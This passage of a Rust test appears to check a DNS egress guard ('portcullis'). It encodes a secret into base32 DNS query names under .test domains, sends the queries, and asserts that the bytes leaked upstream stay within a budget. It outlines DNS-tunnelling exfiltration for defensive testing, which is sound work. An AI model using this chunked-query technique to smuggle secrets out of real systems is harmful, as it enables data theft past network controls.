            "tunnel.permitted.test",
            RecordType::TXT,
            0,
        ),
        (
            "(b) A, allowed wildcard",
            "tunnel.allowed.test",
            RecordType::A,
            BUDGET_BYTES + CHUNK,
        ),
    ];
    let mut table = Vec::new();
    for (path, suffix, qtype, limit) in paths {
        let names = secret_names(&secret, suffix);
        let codes = send_queries(&topo.agent, &names, qtype);
        let seen = recorder.seen();
        let reached = seen
            .iter()
            .filter(|(n, _)| n.trim_end_matches('.').ends_with(&format!(".{suffix}")))
            .count();
        let leaked = secret_bytes_in(&secret, suffix, &seen);
        table.push((path, suffix, names.len(), codes, reached, leaked, limit));
    }
    let metrics = topo.metrics();
    println!(
        "\nsecret of {SECRET_LEN} bytes, {CHUNK} bytes (56 base32 characters) per name:\n\
         {:<28} {:<34} {:>5} {:<44} {:>9} {:>12} {:>6} result",
        "path", "names", "sent", "answers", "upstream", "secret bytes", "limit"
    );
    for (path, suffix, sent, codes, reached, leaked, limit) in &table {
        println!(
            "{path:<28} {:<34} {sent:>5} {:<44} {reached:>9} {leaked:>12} {limit:>6} {}",
            format!("<chunk>.<seq>.{suffix}"),
            format!("{codes:?}"),
            if leaked <= limit { "ok" } else { "FAILED" }
        );
    }
    println!("{}", trip_series(&metrics));
    println!(
        "guard trips {}, guard blocked {}, refusals {:?}",
        trips(&metrics),
        metric_sum(&metrics, "portcullis_dns_guard_blocked_total", &[]),
        ["not_allowed", "qtype", "rate_limited"].map(|r| (
            r,
            metric_sum(
                &metrics,
                "portcullis_dns_refusals_total",
                &[&format!("reason=\"{r}\"")]
            )
        )),
    );
    let mut failed: Vec<&str> = table
        .iter()
        .filter(|row| row.5 > row.6)
        .map(|row| row.0)
        .collect();
    // An allowed name must get through at all, else (b) proves nothing about the guard.
    if table[2].4 == 0 {
        failed.push("(b): not one allowed name reached the upstream");
    }
    assert!(
        failed.is_empty(),
        "failed: {failed:?}\n{}",
        gate_state(&topo, &mut gate)
    );
    drop(recorder);
}
